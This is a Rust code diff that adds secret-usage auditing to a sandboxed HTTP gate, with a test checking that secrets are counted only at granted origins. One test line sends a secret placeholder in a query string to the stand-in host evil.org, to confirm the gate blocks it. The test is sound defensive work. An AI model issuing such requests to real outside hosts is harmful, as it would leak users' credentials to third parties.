@@ -22,6 +22,7 @@ use super::dns::Resolve;
 use super::*;
 use crate::config::secret::Secrets;
 use crate::report::Denied;
+use crate::report::audit::{Audit, Granted, Traffic};
 use crate::sandbox::limits::Limits;
 use crate::sandbox::units::{ByteSize, Duration as Span};
 
@@ -130,11 +131,18 @@ struct Observed {
     denied: Mutex<Vec<Denied>>,
     failed: Mutex<Vec<String>>,
     limits: Mutex<Vec<&'static str>>,
+    audit: Audit,
 }
 
 impl HttpObserver for Observed {
     fn request(&self) {
         self.requests.fetch_add(1, Ordering::SeqCst);
+    }
+    fn traffic(&self, origin: &str) -> Arc<Traffic> {
+        self.audit.traffic(origin)
+    }
+    fn secret_used(&self, name: &str, origin: &str, times: u64) {
+        self.audit.secret_used(name, origin, times);
     }
     fn sent(&self, bytes: u64) {
         self.sent.fetch_add(bytes, Ordering::SeqCst);
@@ -823,6 +831,32 @@ async fn secrets_go_to_granted_origins_only_and_never_into_a_name() {
     let code = error(&gate, &format!("https://{key}.example.com/")).await;
     assert!(matches!(code, Code::DnsError { .. }), "{code}");
     assert!(observed.failure().contains(&key.to_lowercase()));
+}
+
+#[tokio::test]
+async fn secrets_and_origins_are_counted_where_they_were_used() {
+    let server = Server::saying(OK).await;
+    let mut setup = Setup::to(&server);
+    let key = setup.secrets.add("ApiKey", "hunter2").to_owned();
+    let other = setup.secrets.add("Other", "hunter3").to_owned();
+    let (gate, observed) = setup.gate();
+    let json = format!("{{\"key\":\"{key}\"}}");
+    let mut request = Request::post(server.url(&format!("/?k={key}"))).body(body(json.clone())).unwrap();
+    request.headers_mut().insert("content-type", HeaderValue::from_static("application/json"));
+    request.headers_mut().insert("authorization", format!("Bearer {key}").parse().unwrap());
+    read(send(&gate, request).await.unwrap()).await.unwrap();
+    error(&gate, &format!("https://evil.org/?k={other}")).await;
+
+    let origin = server.url("").trim_end_matches('/').to_owned();
+    let origins = vec![server.address.to_string().parse().unwrap()];
+    observed.audit.grant(Granted { origins, ..Granted::default() });
+    let report = observed.audit.report();
+    let [used] = report.origins.as_slice() else { panic!("{report:?}") };
+    assert_eq!(used.origin.as_deref(), Some(origin.as_str()));
+    assert_eq!((used.requests, used.request_bytes, used.response_bytes), (1, json.len() as u64, 2));
+    let [secret] = report.secrets.as_slice() else { panic!("{report:?}") };
+    assert_eq!((secret.name.as_str(), secret.put.len(), secret.put[0].count), ("ApiKey", 1, 3));
+    assert_eq!(secret.put[0].origin, origin);
 }
 
 #[tokio::test]
